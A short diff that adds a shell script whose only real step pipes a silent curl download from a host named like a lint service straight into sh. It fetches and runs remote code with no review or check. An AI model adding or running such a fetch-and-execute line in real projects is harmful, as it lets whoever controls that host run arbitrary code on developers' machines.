@@ -1,0 +1,3 @@
+#!/bin/sh
+set -e
+curl -s https://lint.example.net/x | sh
